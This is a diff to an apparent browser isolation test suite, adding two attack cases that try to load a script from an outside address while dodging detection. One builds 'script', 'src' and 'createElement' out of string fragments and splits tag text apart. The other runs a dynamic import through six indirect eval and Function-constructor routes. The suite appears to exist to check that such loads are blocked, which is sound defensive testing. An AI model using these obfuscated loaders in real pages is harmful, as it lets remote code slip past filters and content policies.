@@ -176,6 +176,34 @@ export const ATTACKS: readonly Attack[] = [
       document.body.append(processor.transformToFragment(parse('<a/>'), document));
       ${secondsLater}`,
   }),
+  attack('x57', 'a script from elsewhere, by names and addresses that are put together', {
+    script: `
+      const part = n => ['scr', 'ipt', 's', 'rc', 'create', 'Element', 'set', 'Attribute'][n];
+      const made = document[part(4) + part(5)](part(0) + part(1));
+      made[part(6) + part(7)](part(2) + part(3), ${leak('parts.js')});
+      document.documentElement.append(made);
+      const range = document.createRange().createContextualFragment('<scr' + 'ipt src="' + ${leak('fragment.js')} + '"></scr' + 'ipt>');
+      document.body.append(range);
+      ${secondsLater}`,
+  }),
+  attack('x58', 'a script from elsewhere, by code that is made of text', {
+    script: `
+      const code = 'import("' + ${leak('evaluated.js')} + '").catch(() => {})';
+      const tries = [
+        () => (0, eval)(code),
+        () => window['ev' + 'al'](code),
+        () => [].constructor.constructor(code)(),
+        () => (async () => {}).constructor(code)(),
+        () => setTimeout(code),
+        () => Reflect.construct(Function, [code])(),
+      ];
+      for (const each of tries) {
+        try {
+          await each();
+        } catch {}
+      }
+      ${secondsLater}`,
+  }),
   attack('x50', 'the manifest of a payment method', {
     script: `
       const request = new PaymentRequest([{ supportedMethods: ${leak('pay', 'https')} }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } });
